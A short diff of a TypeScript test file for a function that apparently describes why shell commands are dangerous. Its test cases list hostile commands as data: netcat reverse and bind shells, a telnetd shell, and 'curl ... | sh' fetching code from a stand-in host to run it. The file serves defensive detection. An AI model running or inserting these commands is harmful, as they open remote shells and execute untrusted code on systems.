@@ -5,7 +5,7 @@ import { placeName } from './reason.ts'
 describe('a reason', () => {
   it.each([
     ['nc -nlp 60022 -e /usr/bin/zsh', 'a shell is connected to the network (port 60022)'],
-    ['nc -e /bin/sh 10.0.0.1 4444', 'a shell is connected to the network (10.0.0.1:4444)'],
+    ['nc -e /bin/sh 198.51.100.7 9001', 'a shell is connected to the network (198.51.100.7:9001)'],
     ['telnetd -l /bin/sh', 'a shell is connected to the network by telnetd'],
     ['nc -l 7777 | sh', 'what comes in at port 7777 is executed'],
     ['curl -s https://x.example/i | sh', 'what comes from https://x.example/i is executed'],
